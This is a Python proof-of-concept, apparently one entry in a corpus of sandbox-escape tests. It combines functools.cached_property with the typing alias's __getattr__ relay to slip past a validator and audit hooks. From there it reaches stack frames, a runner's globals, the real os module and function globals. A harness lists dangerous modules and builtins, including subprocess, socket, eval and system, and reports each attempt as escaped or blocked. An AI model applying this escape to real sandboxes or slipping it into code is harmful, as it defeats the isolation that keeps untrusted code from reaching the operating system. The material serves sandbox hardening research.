# technique: functools.cached_property.__get__(instance) returns instance.__dict__.get(attrname), and attrname is a plain public attribute set at run time: called on a class (a readable __get__ dunder), it reads any entry of the class's __dict__ by a computed name, dunders included: the function type's __globals__ descriptor (CPython audits no read of __globals__) reads any function's globals, and _BaseGenericAlias.__dict__['__getattr__'] (the typing alias's attribute relay) then reads getattr(origin, name) for any non-dunder name in typing's frame, which the audit hook trusts: gi_frame, f_back, f_globals of the runner's frame (real builtins, os)
# source: functools.cached_property (instance.__dict__ read by a stored name) as getattr; typing._BaseGenericAlias.__getattr__ relay; trusted-module frame checks in audit hooks
# note: runtime-layer escape; the validator refuses __get__ and the '__getattr__' string
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import functools, json, typing


def class_entry(cls, name):
    cp = functools.cached_property(lambda s: None)
    cp.attrname = name
    return cp.__get__(cls)


GA = type(typing.List[int])
BASE = [c for c in GA.__mro__ if c.__name__ == '_BaseGenericAlias'][0]
relay = class_entry(BASE, '__getattr__')


def read(obj, name):
    return relay(GA(obj, (int,), name='x'), name)


def frames():
    fr = read(g, 'gi_frame')
    out = []
    while fr is not None:
        out.append(fr)
        fr = read(fr, 'f_back')
    yield out


g = frames()
stack = next(g)

attempt('cached_property(__getattr__) on _BaseGenericAlias -> gi_frame', lambda: stack[0])
attempt("... f_back chain -> the runner's frame f_globals", lambda: read(stack[-1], 'f_globals'))
attempt("... the runner's os", lambda: read(stack[-1], 'f_globals')['_os'])


def function_globals(fn):
    # FunctionType.__dict__['__globals__'] is a member descriptor; CPython
    # raises no audit event for reading __globals__
    return class_entry(type(fn), dn('globals')).__get__(fn)

attempt('cached_property(__globals__) on the function type -> json.dumps globals',
        lambda: function_globals(json.dumps))
